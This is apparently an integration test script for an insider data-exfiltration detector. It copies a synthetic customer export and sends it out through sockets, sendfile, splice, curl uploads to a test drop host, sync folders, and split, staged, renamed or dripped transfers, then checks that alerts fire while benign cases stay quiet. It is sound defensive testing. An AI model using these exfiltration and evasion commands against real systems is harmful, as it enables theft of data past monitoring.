#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
# The lineage issue's scorecard on the product's default thresholds (detect.exfil 5 MiB,
# bulk_read 50 MiB, lookback 24h): insiders each take one 16 MiB customer export (about
# 50,000 rows, under every per-person volume figure) and get it out in one of the ways
# the issue lists; each person is new to the agent, so nothing but that scenario counts
# for them. Every malicious scenario must alert on the session that sent the data, within
# 5 s of the workload's end, naming the sessions the data was read in; no benign one may
# alert. Not here: the ring (three people each under detect.exfil) is the central
# service's rule (test_central), and media (test_harden_paths). Prints the score.
LINEAGE_DEFAULTS=1
. "$(dirname "$0")/../lib/itest.sh"
. "$LIB/lineage_fixture.sh"

EXPORT=$SRC/customers-full.csv
head -c $((16 * 1024 * 1024 * 3 / 4)) /dev/urandom | base64 -w 76 >"$EXPORT"
chmod a+r "$EXPORT"
UNRELATED=$T/holiday-video.bin
head -c $((16 * 1024 * 1024)) /dev/urandom >"$UNRELATED"
chmod a+r "$UNRELATED"
for u in "ivan 1109" "judy 1110" "ken 1111" "leo 1112" "mia 1113" "nick 1114" \
	"olga 1115" "pat 1116" "quinn 1117" "rita 1118"; do
	ensure_user $u
done
way() { echo "python3 $LIB/upload_ways.py $1 $2 $DROP"; }

CAUGHT=0 MALICIOUS=0 SLOW=0
# malicious NAME INFO [ORIGIN_INFO...]: the session in INFO sent the export; its alert
# must come within 5 s (polled every 0.1 s from the workload's end, up to 30 s so a late
# one is named) and name the sessions the data was read in (ORIGIN_INFO, else INFO's).
malicious() {
	local name=$1 s waited=0 o
	s=$(info_session "$2")
	MALICIOUS=$((MALICIOUS + 1))
	while [ "$(alerts count --session "$s")" = 0 ] && [ "$waited" -lt 300 ]; do
		sleep 0.1
		waited=$((waited + 1))
	done
	if [ "$(alerts count --session "$s")" = 0 ]; then
		check "$name: alert on the sending session" missed alerted
		return
	fi
	CAUGHT=$((CAUGHT + 1))
	[ "$waited" -le 50 ] || SLOW=$((SLOW + 1))
	check "$name: alert on the sending session within 5 s (after $((waited / 10)).$((waited % 10)) s)" \
		"$(( waited <= 50 ))" 1
	[ $# -gt 2 ] || set -- "$1" "$2" "$2"
	for o in "${@:3}"; do
		check "$name: the alert names origin session $(info_session "$o")" \
			"$(derived --session "$s" --origin-session "$(info_session "$o")")" 1
	done
}
benign() {
	sleep 2
	check "$1: no alert" "$(alerts count --session "$(info_session "$2")")" 0
}

echo "malicious: one pull sent out at once"
in_session 1101 "$T/m1.info" bash -c "$(way raw "$EXPORT")" || die "raw"
malicious "a script's socket (read and sendall)" "$T/m1.info"
in_session 1102 "$T/m2.info" bash -c "$(way mmap "$EXPORT")" || die "mmap"
malicious "an mmap'ed upload" "$T/m2.info"
in_session 1103 "$T/m3.info" bash -c "$(way sendfile "$EXPORT")" || die "sendfile"
malicious "sendfile" "$T/m3.info"
in_session 1104 "$T/m4.info" bash -c "$(way splice "$EXPORT")" || die "splice"
malicious "splice through a pipe" "$T/m4.info"
in_session 1105 "$T/m5.info" bash -c "$(upload "$EXPORT")" || die "curl"
malicious "curl -T of the export" "$T/m5.info"
in_session 1106 "$T/m6.info" cp "$EXPORT" "$T/sync/frank-notes.csv" || die "sync"
malicious "copied into a sync folder" "$T/m6.info"

echo "malicious: split, staged, renamed, handed off, dripped"
half=$((8 * 1024 * 1024))
in_session 1107 "$T/m7a.info" bash -c "head -c $half $EXPORT > ~/part-a.csv" || die "split a"
in_session 1107 "$T/m7b.info" bash -c "tail -c +$((half + 1)) $EXPORT > ~/part-b.csv &&
	cat ~/part-a.csv ~/part-b.csv | curl -sS --data-binary @- http://$DROP/upload -o /dev/null" ||
	die "split b"
malicious "a pull split over two sessions, sent from the second" "$T/m7b.info" \
	"$T/m7a.info" "$T/m7b.info"
in_session 1108 "$T/m8a.info" bash -c "cp $EXPORT ~/stage.csv" || die "stage"
in_session 1108 "$T/m8b.info" bash -c "gzip -1 -c ~/stage.csv | curl -sS --data-binary @- http://$DROP/upload -o /dev/null" ||
	die "stage upload"
malicious "staged in one session, uploaded in the next" "$T/m8b.info" "$T/m8a.info"
in_session 1109 "$T/m9.info" bash -c "cp $EXPORT ~/x.csv && ln -f ~/x.csv ~/IMG_2041.jpg && rm ~/x.csv &&
	$(upload '~/IMG_2041.jpg')" || die "hard link"
malicious "a renamed hard link uploaded" "$T/m9.info"
in_session 1110 "$T/m10a.info" cp "$EXPORT" "$SHARE/for-ken.csv" || die "hand-off a"
in_session 1111 "$T/m10b.info" bash -c "$(upload "$SHARE/for-ken.csv")" || die "hand-off b"
malicious "a hand-off through the shared folder" "$T/m10b.info" "$T/m10a.info"
in_session 1112 "$T/m11.info" bash -c "cp $EXPORT ~/drip.csv &&
	for i in \$(seq 0 15); do
		dd if=\$HOME/drip.csv bs=1M skip=\$i count=1 status=none |
			curl -sS --data-binary @- http://$DROP/upload -o /dev/null; sleep 0.2
	done" || die "drip"
malicious "a drip of 1 MiB uploads" "$T/m11.info"

echo "benign"
in_session 1113 "$T/b1.info" bash -c "head -c 65536 $EXPORT >/dev/null && $(upload "$UNRELATED")" ||
	die "benign upload"
benign "a few rows read, then an unrelated 16 MiB upload" "$T/b1.info"
in_session 1114 "$T/b2.info" bash -c "grep -c A $EXPORT >/dev/null; wc -l $EXPORT >/dev/null" ||
	die "benign look"
benign "the whole export read in the terminal, nothing sent" "$T/b2.info"
in_session 1115 "$T/b3.info" bash -c "cp $EXPORT ~/work.csv && sort ~/work.csv > ~/sorted.csv" ||
	die "benign local"
benign "a local working copy, sorted, never sent" "$T/b3.info"
in_session 1116 "$T/b4.info" bash -c "$(upload "$UNRELATED")" || die "benign unrelated"
benign "an unrelated upload" "$T/b4.info"
in_session --keep-root 4294967295 "$T/b5.info" tar czf "$T/backup.tgz" -C "$SRC" . || die "backup"
check "a root backup outside any session: no alert" "$(alerts count --session-none)" 0

# Each scenario sent the export once (gzip less): an alert that counted more egress
# than that counted some bytes twice (a sendfile's send and its exit, say).
check "no alert counts more egress than was sent" \
	"$(python3 -c "print($(alerts max-egress) <= $(stat -c %s "$EXPORT"))")" True
echo "score: $CAUGHT of $MALICIOUS malicious scenarios alerted ($SLOW after more than 5 s)"
check "every malicious scenario alerted" "$CAUGHT" "$MALICIOUS"
kill -TERM $DAEMON
wait $DAEMON
check "daemon exit status" "$?" 0
[ "$FAIL" = 0 ] || { echo "alerts:"; cat "$T/alerts.jsonl"; tail -20 "$T/daemon.log"; }
itest_finish
